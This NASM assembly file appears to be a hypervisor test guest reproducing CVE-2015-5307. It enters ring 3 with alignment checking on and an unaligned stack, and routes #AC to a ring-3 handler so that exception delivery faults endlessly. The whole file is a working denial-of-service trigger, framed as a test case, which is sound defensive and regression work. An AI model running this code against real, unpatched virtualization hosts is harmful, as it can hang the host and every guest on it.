; Alignment checks without end (CVE-2015-5307): ring 3 takes #AC in a handler of ring 3, whose stack is not aligned
; either, so that delivering the exception raises it again before the handler's first instruction. The processor alone
; never comes out of this.
%include "guest.inc"
start:
    begin
    cli
    mov eax, cr0
    or eax, 1 << 18                     ; AM
    mov cr0, eax
    lgdt [table]
    lidt [interrupts]
    mov ax, 0x18
    ltr ax
    say "ac_loop: begins"
    push dword 0x13                     ; SS: data of ring 3
    push dword stack_end - 3            ; not aligned
    push dword 0x40002                  ; AC
    push dword 0x0B                     ; code of ring 3
    push dword .ring3
    iretd
.ring3:
    mov ax, 0x13
    mov ds, ax
    mov eax, [word_at + 1]
    jmp $
handler:
    jmp $

align 8
descriptors:
    dq 0
    dq 0x00CFFB000000FFFF               ; 08: code of ring 3
    dq 0x00CFF3000000FFFF               ; 10: data of ring 3
    dw 0x67, TASK & 0xFFFF, 0x8900 | TASK >> 16, 0 ; 18: the task state
descriptors_end:
table:
    dw descriptors_end - descriptors - 1
    dd descriptors
align 8
gates:
    times 17 dq 0
    dw HANDLER & 0xFFFF, 0x0B, 0xEE00, HANDLER >> 16 ; #AC: an interrupt gate to ring 3
gates_end:
interrupts:
    dw gates_end - gates - 1
    dd gates
align 4
word_at: dd 0, 0
times 64 dd 0
stack_end: dd 0
task_at: times 0x68 db 0
; Descriptors have addresses in pieces, which only numbers come in.
HANDLER equ 0x100000 + handler - $$
TASK equ 0x100000 + task_at - $$
end_of_guest:
